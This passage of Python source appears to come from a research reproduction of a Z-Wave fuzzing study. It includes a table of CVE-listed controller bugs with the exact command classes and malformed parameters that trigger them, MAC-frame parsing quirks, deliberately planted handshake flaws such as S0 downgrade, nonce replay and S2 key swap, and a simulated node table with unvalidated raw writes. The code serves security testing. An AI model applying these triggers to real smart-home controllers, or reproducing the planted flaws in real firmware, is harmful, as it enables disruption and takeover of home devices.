        return f"{int(self.duration_s)} sec"

    @property
    def signature(self) -> Tuple:
        """Stable identity used by crash triage to deduplicate findings."""
        return (self.cmdcl, self.effect, self.duration_s)


# ---------------------------------------------------------------------------
# Predicates
# ---------------------------------------------------------------------------
#
# NVM_NODE_WRITE (0x01/0x0D) operation selector values.

OP_WAKEUP_CLEAR = 0x00
OP_MODIFY = 0x01
OP_INSERT = 0x02
OP_REMOVE = 0x03
OP_OVERWRITE = 0x04


def _nvm_write(operation: int) -> Predicate:
    """CMDCL 0x01 CMD 0x0D with the given operation selector.

    The handler requires at least (node_id, operation); everything after is
    taken on faith — the missing validation Table III blames.
    """

    def predicate(ctx: TriggerContext) -> bool:
        return ctx.cmd == 0x0D and ctx.param_count >= 2 and ctx.param(1) == operation

    return predicate


def _bug05_app_update_flood(ctx: TriggerContext) -> bool:
    """CMDCL 0x01 CMD 0x02: unauthenticated application-update event.

    The controller forwards the spoofed node-information update straight to
    the controlling application, which chokes on it.
    """
    return ctx.cmd == 0x02


def _bug06_malformed_nonce_get(ctx: TriggerContext) -> bool:
    """CMDCL 0x9F CMD 0x01: S2 nonce request with the sequence byte missing.

    The PC controller program indexes the absent field and dies.
    """
    return ctx.cmd == 0x01 and ctx.param_count == 0


def _bug07_reset_notification(ctx: TriggerContext) -> bool:
    """CMDCL 0x5A: any bare (parameter-less) command stalls the handler.

    The class dispatch assumes a body follows the command byte; a
    zero-parameter frame sends it into a 68-second recovery scan.
    """
    return ctx.param_count == 0


def _bug08_group_info_get(ctx: TriggerContext) -> bool:
    """CMDCL 0x59, odd dispatch path (canonical CMD 0x03) with a body."""
    if ctx.param_count < 2:
        return False
    return ctx.cmd in (0x03, 0x04) or (ctx.cmd > 0x06 and ctx.cmd % 2 == 1)


def _bug11_command_list_get(ctx: TriggerContext) -> bool:
    """CMDCL 0x59, even dispatch path (canonical CMD 0x05) with a body."""
    if ctx.param_count < 2:
        return False
    return ctx.cmd in (0x05, 0x06) or (ctx.cmd > 0x06 and ctx.cmd % 2 == 0)


def _bug09_firmware_md_get(ctx: TriggerContext) -> bool:
    """CMDCL 0x7A, bare even-path command (canonical CMD 0x01)."""
    if ctx.param_count != 0:
        return False
    return ctx.cmd in (0x01, 0x02) or (ctx.cmd > 0x07 and ctx.cmd % 2 == 0)


def _bug15_update_request(ctx: TriggerContext) -> bool:
    """CMDCL 0x7A, odd-path command with a body (canonical CMD 0x03)."""
    if ctx.param_count < 2:
        return False
    return ctx.cmd in (0x03, 0x04) or (ctx.cmd > 0x07 and ctx.cmd % 2 == 1)


def _bug10_version_cc_get(ctx: TriggerContext) -> bool:
    """CMDCL 0x86: version query for a class the controller lacks.

    The firmware walks its class table looking for the requested class and
    stays busy for ~4 seconds when it is absent; undefined commands above
    0x15 fall into the same lookup with attacker-shaped arguments.
    """
    if ctx.cmd == 0x13:
        return ctx.param_count >= 1 and ctx.param(0) not in ctx.supported_cmdcls
    return ctx.cmd >= 0x16 and ctx.param_count >= 2


def _bug13_powerlevel_test(ctx: TriggerContext) -> bool:
    """CMDCL 0x73 CMD 0x04: truncated test-node request kills the host app."""
    return ctx.cmd == 0x04 and ctx.param_count < 4


def _bug14_find_nodes(ctx: TriggerContext) -> bool:
    """CMDCL 0x01 CMD 0x04: node-mask length beyond the 29-byte maximum.

    The controller searches for non-existent devices for over four minutes
    (the paper's single-packet WAKEUP-adjacent network stall).
    """
    return ctx.cmd == 0x04 and ctx.param_count >= 1 and ctx.param(0) > 29


# ---------------------------------------------------------------------------
# The canonical bug database (Table III)
# ---------------------------------------------------------------------------

ZERO_DAYS: Tuple[Vulnerability, ...] = (
    Vulnerability(
        1, 0x01, 0x0D,
        "Memory corruption in existing device properties.",
        EffectType.MEMORY_MODIFY, RootCause.SPECIFICATION,
        "CVE-2024-50929", "D1 - D7", None, _nvm_write(OP_MODIFY),
    ),
    Vulnerability(
        2, 0x01, 0x0D,
        "Fake device insertion into controller's memory.",
        EffectType.MEMORY_INSERT, RootCause.SPECIFICATION,
        "CVE-2024-50920", "D1 - D7", None, _nvm_write(OP_INSERT),
    ),
    Vulnerability(
        3, 0x01, 0x0D,
        "Remove valid device in the controller's memory.",
        EffectType.MEMORY_REMOVE, RootCause.SPECIFICATION,
        "CVE-2024-50931", "D1 - D7", None, _nvm_write(OP_REMOVE),
    ),
    Vulnerability(
        4, 0x01, 0x0D,
        "Overwriting the controller's device database.",
        EffectType.MEMORY_OVERWRITE, RootCause.SPECIFICATION,
        "CVE-2024-50930", "D1 - D7", None, _nvm_write(OP_OVERWRITE),
    ),
    Vulnerability(
        5, 0x01, 0x02,
        "DoS on smartphone app.",
        EffectType.HOST_DOS, RootCause.SPECIFICATION,
        "CVE-2024-50921", "D6 and D7", None, _bug05_app_update_flood,
    ),
    Vulnerability(
        6, 0x9F, 0x01,
        "Z-Wave PC controller program crash.",
        EffectType.HOST_CRASH, RootCause.IMPLEMENTATION,
        "CVE-2023-6640", "D1 - D5", None, _bug06_malformed_nonce_get,
    ),
    Vulnerability(
        7, 0x5A, 0x01,
        "Service interruption during the attack.",
        EffectType.CONTROLLER_HANG, RootCause.SPECIFICATION,
        "CVE-2023-6533", "D1 - D7", 68.0, _bug07_reset_notification,
    ),
    Vulnerability(
        8, 0x59, 0x03,
        "Service interruption during the attack.",
        EffectType.CONTROLLER_HANG, RootCause.SPECIFICATION,
        "CVE-2024-50924", "D1 - D7", 67.0, _bug08_group_info_get,
    ),
    Vulnerability(
        9, 0x7A, 0x01,
        "Service interruption during the attack.",
        EffectType.CONTROLLER_HANG, RootCause.SPECIFICATION,
        "CVE-2023-6642", "D1 - D7", 63.0, _bug09_firmware_md_get,
    ),
    Vulnerability(
        10, 0x86, 0x13,
        "Service interruption during the attack.",
        EffectType.CONTROLLER_HANG, RootCause.SPECIFICATION,
        "CVE-2023-6641", "D1 - D7", 4.0, _bug10_version_cc_get,
    ),
    Vulnerability(
        11, 0x59, 0x05,
        "Service interruption during the attack.",
        EffectType.CONTROLLER_HANG, RootCause.SPECIFICATION,
        "CVE-2023-6643", "D1 - D7", 62.0, _bug11_command_list_get,
    ),
    Vulnerability(
        12, 0x01, 0x0D,
        "Remove the device's wakeup interval value.",
        EffectType.MEMORY_WAKEUP_CLEAR, RootCause.SPECIFICATION,
        "CVE-2024-50928", "D1 - D7", None, _nvm_write(OP_WAKEUP_CLEAR),
    ),
    Vulnerability(
        13, 0x73, 0x04,
        "Dos on the Z-Wave PC controller program.",
        EffectType.HOST_DOS, RootCause.IMPLEMENTATION,
        None, "D1 - D5", None, _bug13_powerlevel_test,
    ),
    Vulnerability(
        14, 0x01, 0x04,
        "Z-Wave controller service disruption.",
        EffectType.CONTROLLER_HANG, RootCause.SPECIFICATION,
        None, "D1 - D7", 240.0, _bug14_find_nodes,
    ),
    Vulnerability(
        15, 0x7A, 0x03,
        "Service interruption during the attack.",
        EffectType.CONTROLLER_HANG, RootCause.SPECIFICATION,
        None, "D1 - D7", 59.0, _bug15_update_request,
    ),
)


def zero_day_by_id(bug_id: int) -> Vulnerability:
    """Return the Table III entry with the given bug id."""
    for bug in ZERO_DAYS:
        if bug.bug_id == bug_id:
            return bug
    raise KeyError(f"no zero-day with bug id {bug_id}")


def match_zero_days(ctx: TriggerContext) -> List[Vulnerability]:
    """All zero-days whose predicate fires on *ctx* (usually zero or one)."""
    return [bug for bug in ZERO_DAYS if bug.triggered_by(ctx)]


#: Bugs living in CMDCL 0x01 — unreachable without unknown-property
#: discovery, which is exactly what the β ablation removes (Table VI).
CMDCL_0X01_BUG_IDS = tuple(b.bug_id for b in ZERO_DAYS if b.cmdcl == 0x01)


# ---------------------------------------------------------------------------
# MAC-layer one-day quirks (the bugs VFuzz-style fuzzing finds, Table V)
# ---------------------------------------------------------------------------


@dataclass(frozen=True)
class MacQuirk:
    """A known (one-day) MAC-frame parsing bug in a specific controller.

    Predicates operate on the raw frame bytes *before* strict validation,
    because the flaw lives in the validator itself.  ZCover never reaches
    these (it keeps every MAC field intact — Table I), which is why the
    paper saw no overlap between the two tools' findings.
    """

    quirk_id: str
    description: str
    hang_s: float
    predicate: Callable[[bytes], bool]


def _q_len_overrun(raw: bytes) -> bool:
    """LEN field larger than the physical frame: parser over-read."""
    return len(raw) >= 10 and raw[7] > len(raw)


def _q_len_underrun(raw: bytes) -> bool:
    """LEN field smaller than the header: negative payload size."""
    return len(raw) >= 10 and 0 < raw[7] < 10


def _q_src_is_dst(raw: bytes) -> bool:
    """Source equal to destination: routing loop in the ACK path."""
    return len(raw) >= 10 and raw[4] == raw[8] and raw[4] != 0


def _q_reserved_header_type(raw: bytes) -> bool:
    """Reserved frame-control header type values crash the dispatcher."""
    return len(raw) >= 10 and (raw[5] & 0x0F) in (0x00, 0x05, 0x06, 0x07)


def _q_routed_no_route(raw: bytes) -> bool:
    """Routed flag set on a frame with no routing header bytes."""
    return len(raw) >= 10 and bool(raw[5] & 0x80) and raw[7] <= 10

def _q_broadcast_ack(raw: bytes) -> bool:
    """ACK-request on a broadcast: the chip tries to ACK 0xFF forever."""
    return len(raw) >= 10 and raw[8] == 0xFF and bool(raw[5] & 0x40)


def _q_zero_home_id(raw: bytes) -> bool:
    """All-zero home id bypasses the network filter on old firmware."""
    return len(raw) >= 10 and raw[0:4] == b"\x00\x00\x00\x00"


def _q_null_dst(raw: bytes) -> bool:
    """Frames addressed to node 0 dereference a null routing-table entry
    (no legitimate sender ever addresses the uninitialised node id)."""
    return len(raw) >= 10 and raw[8] == 0x00


MAC_QUIRK_CATALOG: Dict[str, MacQuirk] = {
    "LEN-OVERRUN": MacQuirk(
        "LEN-OVERRUN", "LEN field beyond frame end causes a parser over-read", 30.0, _q_len_overrun
    ),
    "LEN-UNDERRUN": MacQuirk(
        "LEN-UNDERRUN", "LEN field below the header size wraps the payload length", 25.0, _q_len_underrun
    ),
    "SRC-EQ-DST": MacQuirk(
        "SRC-EQ-DST", "frames with src == dst trap the ACK path in a loop", 20.0, _q_src_is_dst
    ),
    "RESERVED-TYPE": MacQuirk(
        "RESERVED-TYPE", "reserved frame-control header types crash the dispatcher", 15.0, _q_reserved_header_type
    ),
    "ROUTED-EMPTY": MacQuirk(
        "ROUTED-EMPTY", "routed flag without a routing header dereferences junk", 22.0, _q_routed_no_route
    ),
    "BROADCAST-ACK": MacQuirk(
        "BROADCAST-ACK", "ACK-request on broadcast starves the radio scheduler", 18.0, _q_broadcast_ack
    ),
    "ZERO-HOME": MacQuirk(
        "ZERO-HOME", "all-zero home id bypasses the network filter", 12.0, _q_zero_home_id
    ),
    "NULL-DST": MacQuirk(
        "NULL-DST", "frames addressed to node 0 dereference a null route entry", 16.0, _q_null_dst
    ),
}

#: Which one-days each testbed controller carries (drives Table V's
#: VFuzz column: 1 / 3 / 0 / 4 / 0 findings on D1..D5).
DEVICE_MAC_QUIRKS: Dict[str, Tuple[str, ...]] = {
    "D1": ("LEN-OVERRUN",),
    "D2": ("LEN-UNDERRUN", "SRC-EQ-DST", "RESERVED-TYPE"),
    "D3": (),
    "D4": ("LEN-OVERRUN", "ROUTED-EMPTY", "BROADCAST-ACK", "NULL-DST"),
    "D5": (),
    "D6": (),
    "D7": (),
}


# ---------------------------------------------------------------------------
# Session-level vulnerabilities (multi-frame state-machine bugs)
# ---------------------------------------------------------------------------
#
# Where the Table III zero-days fire on a single application payload, the
# planted session bugs below fire only on *sequences*: a controller that
# keeps accepting frames after a flow reached a terminal state, commits a
# multi-step exchange without its closing frame, or honours a downgraded
# or replayed handshake step.  Each predicate sees the whole annotated
# trace — every frame carries the flow-graph state the evaluator was in
# *before* consuming it — and returns the sequence index at which the
# lenient acceptance becomes an exploitable fact, or ``None``.
#
# The ground-truth contract (ISSUE 8 / the paper's Table VI analogue):
# every predicate is reachable by a short directed mutation of the happy
# path (``repro.core.session.directed_attack``), and none fires on any
# unmutated happy-path trace.

# S0 command class 0x98.
_S0 = 0x98
_S0_SCHEME_REPORT = 0x05
_S0_NONCE_REPORT = 0x80
_S0_MESSAGE_ENCAP = 0x81
# S2 command class 0x9F.
_S2 = 0x9F
_S2_NONCE_REPORT = 0x02
_S2_MESSAGE_ENCAP = 0x03
_S2_KEX_REPORT = 0x05
_S2_KEX_SET = 0x06
_S2_PUBLIC_KEY_REPORT = 0x08
# OTA command class 0x7A.
_OTA = 0x7A
_OTA_REQUEST_GET = 0x03
_OTA_REQUEST_REPORT = 0x04
_OTA_MD_FRAGMENT = 0x06
_OTA_STATUS_REPORT = 0x07
# Network-management class 0x01 (inclusion / exclusion / replication).
_NM = 0x01
_NM_NODE_INFO = 0x01
_NM_PRESENTATION = 0x08
_NM_TRANSFER_NODE = 0x09
_NM_TRANSFER_END = 0x0B


@dataclass(frozen=True)
class SessionFrame:
    """One frame of an annotated session trace, as the oracle sees it.

    ``state`` is the flow-graph state the session evaluator was in
    immediately *before* consuming this frame, so predicates can ask
    "did the controller accept X while already in state Y?" without
    re-deriving the walk.
    """

    state: str
    sender: str  # "ctrl" or "dev"
    cmdcl: int
    cmd: int
    params: bytes

    def sig(self) -> Tuple[int, int]:
        return (self.cmdcl, self.cmd)


SessionTrace = Tuple[SessionFrame, ...]

#: Returns the firing sequence index, or ``None`` when the trace is clean.
SessionPredicate = Callable[[SessionTrace], Optional[int]]


@dataclass(frozen=True)
class SessionVulnerability:
    """One planted multi-frame state-machine bug."""

    vuln_id: str
    flow: str
    name: str
    description: str
    predicate: SessionPredicate

    def fired_at(self, frames: SessionTrace) -> Optional[int]:
        """Sequence index where the bug fires on *frames*, or ``None``."""
        return self.predicate(frames)


def _indices(frames: SessionTrace, cmdcl: int, cmd: int) -> List[int]:
    return [i for i, f in enumerate(frames) if f.cmdcl == cmdcl and f.cmd == cmd]


def _sv_s0_scheme_downgrade(frames: SessionTrace) -> Optional[int]:
    """A non-zero SCHEME_REPORT (anything but scheme 0) must abort the S0
    bootstrap; a key encapsulation after it means the downgrade was
    accepted — the Crushing-the-Wave key-exchange bug."""
    bad = next(
        (
            i
            for i, f in enumerate(frames)
            if f.cmdcl == _S0
            and f.cmd == _S0_SCHEME_REPORT
            and f.params != b"\x00"
        ),
        None,
    )
    if bad is None:
        return None
    for j in range(bad + 1, len(frames)):
        if frames[j].cmdcl == _S0 and frames[j].cmd == _S0_MESSAGE_ENCAP:
            return j
    return None


def _sv_s0_nonce_replay(frames: SessionTrace) -> Optional[int]:
    """The same 8-byte S0 nonce offered twice with an encapsulation
    consumed against each: the receiver failed to burn the nonce."""
    seen: Dict[bytes, int] = {}
    duplicated = False
    for f in frames:
        if f.cmdcl == _S0 and f.cmd == _S0_NONCE_REPORT:
            seen[f.params] = seen.get(f.params, 0) + 1
            if seen[f.params] >= 2:
                duplicated = True
    if not duplicated:
        return None
    encaps = _indices(frames, _S0, _S0_MESSAGE_ENCAP)
    return encaps[1] if len(encaps) >= 2 else None


def _sv_s0_rekey_after_verify(frames: SessionTrace) -> Optional[int]:
    """A key-set encapsulation accepted after NETWORK_KEY_VERIFY closed
    the exchange: the controller re-keys an already-secured session."""
    for i, f in enumerate(frames):
        if f.cmdcl == _S0 and f.cmd == _S0_MESSAGE_ENCAP and f.state == "done":
            return i
    return None


def _sv_s2_grant_escalation(frames: SessionTrace) -> Optional[int]:
    """KEX_SET granting key bits the device never requested, followed by
    a completed key transfer: access-control escalation at bootstrap."""
    requested: Optional[int] = None
    escalated = False
    for i, f in enumerate(frames):
        if f.cmdcl != _S2:
            continue
        if f.cmd == _S2_KEX_REPORT and len(f.params) >= 4:
            requested = f.params[3]
        elif f.cmd == _S2_KEX_SET and len(f.params) >= 4:
            if requested is not None and f.params[3] & ~requested & 0xFF:
                escalated = True
        elif f.cmd == _S2_MESSAGE_ENCAP and escalated:
            return i
    return None


def _sv_s2_pubkey_swap(frames: SessionTrace) -> Optional[int]:
    """A second, different device public key accepted after the ECDH
    exchange already bound the first — the mid-inclusion MitM swap."""
    first: Optional[bytes] = None
    for i, f in enumerate(frames):
        if (
            f.cmdcl == _S2
            and f.cmd == _S2_PUBLIC_KEY_REPORT
            and f.sender == "dev"
            and len(f.params) >= 2
            and f.params[0] == 0x01
        ):
            if first is None:
                first = f.params[1:]
            elif f.params[1:] != first:
                return i
    return None


def _sv_s2_entropy_reuse(frames: SessionTrace) -> Optional[int]:
    """Identical SPAN entropy offered twice and an encapsulation still
    decrypted after the repeat: nonce reuse under the same key."""
    reports = _indices(frames, _S2, _S2_NONCE_REPORT)
    second_dup: Optional[int] = None
    for a in range(len(reports)):
        for b in range(a + 1, len(reports)):
            if frames[reports[a]].params == frames[reports[b]].params:
                second_dup = reports[b]
                break
        if second_dup is not None:
            break
    if second_dup is None:
        return None
    for j in range(second_dup + 1, len(frames)):
        if frames[j].cmdcl == _S2 and frames[j].cmd == _S2_MESSAGE_ENCAP:
            return j
    return None


def _sv_incl_stale_nif(frames: SessionTrace) -> Optional[int]:
    """A divergent node-information frame accepted after the node id was
    already assigned: the controller trusts a stale (spoofed) NIF."""
    first: Optional[bytes] = None
    for i, f in enumerate(frames):
        if f.cmdcl == _NM and f.cmd == _NM_NODE_INFO:
            if first is None:
                first = f.params
            elif f.params != first and f.state in ("id_assigned", "done"):
                return i
    return None


def _sv_excl_spoofed_removal(frames: SessionTrace) -> Optional[int]:
    """TRANSFER_END confirming a removal that no exclusion-mode
    presentation ever opened: a spoofed device-removal commit."""
    presented = False
    for i, f in enumerate(frames):
        if (
            f.cmdcl == _NM
            and f.cmd == _NM_PRESENTATION
            and len(f.params) >= 1
            and f.params[0] == 0x02
        ):
            presented = True
        elif (
            f.cmdcl == _NM
            and f.cmd == _NM_TRANSFER_END
            and len(f.params) >= 1
            and f.params[0] == 0x02  # removal operand, not an add/repl end
            and not presented
        ):
            return i
    return None


def _sv_repl_ghost_commit(frames: SessionTrace) -> Optional[int]:
    """Replicated node records retained although TRANSFER_END never
    arrived: the secondary commits a half-transferred topology."""
    records = _indices(frames, _NM, _NM_TRANSFER_NODE)
    if not records:
        return None
    if _indices(frames, _NM, _NM_TRANSFER_END):
        return None
    return records[-1]


def _sv_repl_seq_overwrite(frames: SessionTrace) -> Optional[int]:
    """Two transfer records reusing one sequence number for different
    node ids: the second silently overwrites the first."""
    by_seq: Dict[int, int] = {}
    for i, f in enumerate(frames):
        if f.cmdcl == _NM and f.cmd == _NM_TRANSFER_NODE and len(f.params) >= 2:
            seq, node = f.params[0], f.params[1]
            if seq in by_seq and by_seq[seq] != node:
                return i
            by_seq.setdefault(seq, node)
    return None


def _sv_ota_resume_no_reauth(frames: SessionTrace) -> Optional[int]:
    """A fresh firmware offer accepted mid-transfer and fragments still
    flowing without a new REQUEST_REPORT authorisation."""
    for i, f in enumerate(frames):
        if (
            f.cmdcl == _OTA
            and f.cmd == _OTA_REQUEST_GET
            and f.state in ("pulling", "transferring")
        ):
            for j in range(i + 1, len(frames)):
                g = frames[j]
                if g.cmdcl != _OTA:
                    continue
                if g.cmd == _OTA_REQUEST_REPORT:
                    break  # re-authorised: this offer is clean
                if g.cmd in (_OTA_MD_FRAGMENT, _OTA_STATUS_REPORT):
                    return j
    return None


def _sv_ota_early_commit(frames: SessionTrace) -> Optional[int]:
    """STATUS_REPORT OK with fewer fragments delivered than the offer
    declared: the device activates a truncated image."""
    declared: Optional[int] = None
    fragments = 0
    for i, f in enumerate(frames):
        if f.cmdcl != _OTA:
            continue
        if f.cmd == _OTA_REQUEST_GET and len(f.params) >= 5:
            declared = f.params[4]
        elif f.cmd == _OTA_MD_FRAGMENT:
            fragments += 1
        elif (
            f.cmd == _OTA_STATUS_REPORT
            and len(f.params) >= 1
            and f.params[0] == 0xFF
            and declared is not None
            and fragments < declared
        ):
            return i
    return None


#: The planted session-level bug database, in canonical vuln-id order.
SESSION_VULNS: Tuple[SessionVulnerability, ...] = (
    SessionVulnerability(
        "SV01", "s0", "S0 scheme-downgrade acceptance",
        "Key transfer completes after a non-zero security scheme offer.",
        _sv_s0_scheme_downgrade,
    ),
    SessionVulnerability(
        "SV02", "s0", "S0 nonce replay",
        "A replayed external nonce is consumed by a second encapsulation.",
        _sv_s0_nonce_replay,
    ),
    SessionVulnerability(
        "SV03", "s0", "S0 re-key after verify",
        "A key-set encapsulation is accepted after NETWORK_KEY_VERIFY.",
        _sv_s0_rekey_after_verify,
    ),
    SessionVulnerability(
        "SV04", "s2", "S2 key-grant escalation",
        "KEX_SET grants key classes the device never requested.",
        _sv_s2_grant_escalation,
    ),
    SessionVulnerability(
        "SV05", "s2", "S2 public-key swap",
        "A second, different device public key is accepted mid-bootstrap.",
        _sv_s2_pubkey_swap,
    ),
    SessionVulnerability(
        "SV06", "s2", "S2 SPAN entropy reuse",
        "Identical SPAN entropy is honoured twice under one key.",
        _sv_s2_entropy_reuse,
    ),
    SessionVulnerability(
        "SV07", "inclusion", "Inclusion stale NIF",
        "A divergent node-information frame is trusted after id assignment.",
        _sv_incl_stale_nif,
    ),
    SessionVulnerability(
        "SV08", "exclusion", "Exclusion spoofed removal",
        "TRANSFER_END commits a removal no presentation ever opened.",
        _sv_excl_spoofed_removal,
    ),
    SessionVulnerability(
        "SV09", "replication", "Replication ghost commit",
        "Node records persist although TRANSFER_END never arrived.",
        _sv_repl_ghost_commit,
    ),
    SessionVulnerability(
        "SV10", "replication", "Replication sequence overwrite",
        "A reused sequence number overwrites an earlier node record.",
        _sv_repl_seq_overwrite,
    ),
    SessionVulnerability(
        "SV11", "ota", "OTA resume without re-auth",
        "Fragments keep flowing after a mid-transfer offer, unauthorised.",
        _sv_ota_resume_no_reauth,
    ),
    SessionVulnerability(
        "SV12", "ota", "OTA early commit",
        "STATUS OK activates an image with fragments missing.",
        _sv_ota_early_commit,
    ),
)


def session_vuln_by_id(vuln_id: str) -> SessionVulnerability:
    """Return the planted session bug with the given id."""
    for vuln in SESSION_VULNS:
        if vuln.vuln_id == vuln_id:
            return vuln
    raise KeyError(f"no session vulnerability with id {vuln_id}")


def session_vulns_for_flow(flow: str) -> Tuple[SessionVulnerability, ...]:
    """The planted bugs scoped to one flow, in vuln-id order."""
    return tuple(v for v in SESSION_VULNS if v.flow == flow)


def match_session_vulns(
    flow: str, frames: SessionTrace
) -> List[Tuple[SessionVulnerability, int]]:
    """Every planted bug of *flow* that fires on *frames*, with its firing
    sequence index, ordered by (index, vuln_id)."""
    hits = []
    for vuln in session_vulns_for_flow(flow):
        fired = vuln.fired_at(frames)
        if fired is not None:
            hits.append((vuln, fired))
    hits.sort(key=lambda pair: (pair[1], pair[0].vuln_id))
    return hits
