"""Controller non-volatile memory: the node table the attacks corrupt.

The paper's headline attacks (Figures 8-11) all tamper with this structure:
modifying a paired lock's device class, inserting rogue controllers,
removing valid devices, and overwriting the whole device database.  The
fuzzer's memory oracle snapshots the table before each test packet and
diffs it afterwards, which is how the "Infinite"-duration bugs of Table III
are detected without the controller ever hanging.
"""

from __future__ import annotations

from dataclasses import dataclass, replace
from typing import Dict, List, Optional, Tuple

from ..errors import NodeMemoryError
from ..zwave.nif import BasicDeviceClass, GenericDeviceClass

#: Highest valid Z-Wave node identifier.
MAX_NODE_ID = 232


@dataclass(frozen=True)
class NodeRecord:
    """One paired device as the controller remembers it."""

    node_id: int
    basic: int = BasicDeviceClass.SLAVE
    generic: int = GenericDeviceClass.BINARY_SWITCH
    specific: int = 0x00
    listening: bool = True
    secure: bool = False
    granted_keys: int = 0x00
    wakeup_interval: Optional[int] = None
    name: str = ""

    def __post_init__(self) -> None:
        if not 1 <= self.node_id <= MAX_NODE_ID:
            raise NodeMemoryError(f"node id {self.node_id} outside 1..{MAX_NODE_ID}")

    @property
    def is_controller(self) -> bool:
        return self.basic in (
            BasicDeviceClass.CONTROLLER,
            BasicDeviceClass.STATIC_CONTROLLER,
        )


#: An immutable snapshot: node records keyed and ordered by node id.
Snapshot = Tuple[NodeRecord, ...]


@dataclass(frozen=True)
class MemoryChange:
    """One observed difference between two snapshots."""

    kind: str  # "added" | "removed" | "modified"
    node_id: int
    before: Optional[NodeRecord] = None
    after: Optional[NodeRecord] = None

    def describe(self) -> str:
        """One-line human description of the change."""
        if self.kind == "added":
            role = "controller" if self.after and self.after.is_controller else "device"
            return f"node #{self.node_id} ({role}) appeared in the node table"
        if self.kind == "removed":
            return f"node #{self.node_id} vanished from the node table"
        fields = []
        if self.before and self.after:
            for attr in (
                "basic",
                "generic",
                "specific",
                "listening",
                "secure",
                "granted_keys",
                "wakeup_interval",
            ):
                old, new = getattr(self.before, attr), getattr(self.after, attr)
                if old != new:
                    fields.append(f"{attr}: {old!r} -> {new!r}")
        return f"node #{self.node_id} changed ({', '.join(fields) or 'unknown fields'})"


class NodeTable:
    """The mutable NVM node database of one controller."""

    def __init__(self, own_node_id: int = 1):
        self._own_node_id = own_node_id
        self._records: Dict[int, NodeRecord] = {}
        self._writes = 0
        # Monotonic mutation counter for the memory oracle's fast path.
        # Unlike ``_writes`` (the NVM wear metric, which deliberately
        # excludes harness-side restores) this ticks on *every* content
        # change, so "version unchanged" proves the table is untouched.
        self._version = 0

    # -- normal (firmware-sanctioned) operations ------------------------------

    @property
    def own_node_id(self) -> int:
        return self._own_node_id

    @property
    def write_count(self) -> int:
        """Total mutations, sanctioned or not (NVM wear metric)."""
        return self._writes

    @property
    def version(self) -> int:
        """Counter bumped by every content change, restores included."""
        return self._version

    def __len__(self) -> int:
        return len(self._records)

    def __contains__(self, node_id: int) -> bool:
        return node_id in self._records

    def node_ids(self) -> Tuple[int, ...]:
        return tuple(sorted(self._records))

    def get(self, node_id: int) -> Optional[NodeRecord]:
        return self._records.get(node_id)

    def add(self, record: NodeRecord) -> None:
        """Pair a new device; refuses duplicates and the controller's own id."""
        if record.node_id == self._own_node_id:
            raise NodeMemoryError("cannot pair a device under the controller's own id")
        if record.node_id in self._records:
            raise NodeMemoryError(f"node {record.node_id} already paired")
        self._records[record.node_id] = record
        self._writes += 1
        self._version += 1

    def remove(self, node_id: int) -> NodeRecord:
        """Unpair a device; raises if absent."""
        record = self._records.pop(node_id, None)
        if record is None:
            raise NodeMemoryError(f"node {node_id} is not paired")
        self._writes += 1
        self._version += 1
        return record

    def update(self, node_id: int, **changes) -> NodeRecord:
        """Modify fields of an existing record."""
        record = self._records.get(node_id)
        if record is None:
            raise NodeMemoryError(f"node {node_id} is not paired")
        updated = replace(record, **changes)
        self._records[node_id] = updated
        self._writes += 1
        self._version += 1
        return updated

    # -- raw operations the vulnerable CMDCL 0x01 handler performs --------------
    #
    # These bypass the sanity checks above, mirroring the missing validation
    # the paper found: the proprietary NVM-write command manipulates records
    # directly.

    def raw_write(self, record: NodeRecord) -> None:
        """Insert or overwrite a record with no duplicate/identity checks."""
        self._records[record.node_id] = record
        self._writes += 1
        self._version += 1

    def raw_delete(self, node_id: int) -> bool:
        """Delete a record if present; never raises."""
        existed = self._records.pop(node_id, None) is not None
        if existed:
            self._writes += 1
            self._version += 1
        return existed

    def raw_overwrite_all(self, records: List[NodeRecord]) -> None:
        """Replace the entire table (the Figure 11 database overwrite)."""
        self._records = {r.node_id: r for r in records}
        self._writes += 1
        self._version += 1

    def raw_clear_wakeup(self, node_id: int) -> bool:
        """Blank a node's wake-up interval (bug #12)."""
        record = self._records.get(node_id)
        if record is None or record.wakeup_interval is None:
            return False
        self._records[node_id] = replace(record, wakeup_interval=None)
        self._writes += 1
        self._version += 1
        return True

    # -- snapshots and diffing (the memory oracle) --------------------------------

    def snapshot(self) -> Snapshot:
        """Immutable copy of the current table, ordered by node id."""
        return tuple(self._records[i] for i in sorted(self._records))

    def restore(self, snapshot: Snapshot) -> None:
        """Reset the table to *snapshot* (harness-side repair between tests)."""
        self._records = {r.node_id: r for r in snapshot}
        self._version += 1

    @staticmethod
    def diff(before: Snapshot, after: Snapshot) -> List[MemoryChange]:
        """Structured differences between two snapshots."""
        before_map = {r.node_id: r for r in before}
        after_map = {r.node_id: r for r in after}
        changes: List[MemoryChange] = []
        for node_id in sorted(set(before_map) | set(after_map)):
            old = before_map.get(node_id)
            new = after_map.get(node_id)
            if old is None and new is not None:
                changes.append(MemoryChange("added", node_id, None, new))
            elif old is not None and new is None:
                changes.append(MemoryChange("removed", node_id, old, None))
            elif old != new:
                changes.append(MemoryChange("modified", node_id, old, new))
        return changes
