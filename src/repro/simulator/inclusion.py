"""Device inclusion (pairing): the ceremony that builds a Z-Wave network.

The paper's testbed assumes an already-commissioned smart home; this module
implements the commissioning itself so examples and tests can build
networks from factory-fresh devices and demonstrate the transport-layer
weaknesses Section II-A1 catalogues:

* **No Security** — the device is simply registered;
* **S0** — the network key travels encrypted under the *fixed all-zero
  temporary key* (:data:`repro.security.s0.TEMP_KEY`), so any sniffer
  present during inclusion recovers it (the Fouladi & Ghanoun MITM);
* **S2** — Curve25519 key exchange with DSK-pin user authentication, the
  network key protected by AES-CCM under the ECDH-derived temporary key.

Every ceremony message is transmitted over the simulated medium, so the
attacker's promiscuous dongle records the same bytes a real Zniffer would.
The ceremony object orchestrates both endpoints step-by-step (the state
machines live here rather than in the device classes), while all key
material is produced by the real crypto substrate.
"""

from __future__ import annotations

import random
from dataclasses import dataclass, field
from typing import List, Optional, Tuple

from ..errors import AuthenticationError, SimulatorError
from ..radio.clock import SimClock
from ..radio.medium import RadioMedium
from ..security.ccm import ccm_decrypt, ccm_encrypt
from ..security.s0 import CMD_MESSAGE_ENCAPSULATION, CMD_NETWORK_KEY_SET, S0Context, S0Encapsulated, TEMP_KEY
from ..security.s2 import S2Bootstrap
from ..zwave.application import ApplicationPayload
from ..zwave.constants import BROADCAST_NODE_ID, TransportMode
from ..zwave.frame import ZWaveFrame
from ..zwave.nif import NodeInfo, encode_nif_report
from .controller import VirtualController
from .memory import NodeRecord

#: S2 key-grant bits (unauthenticated / authenticated / access control).
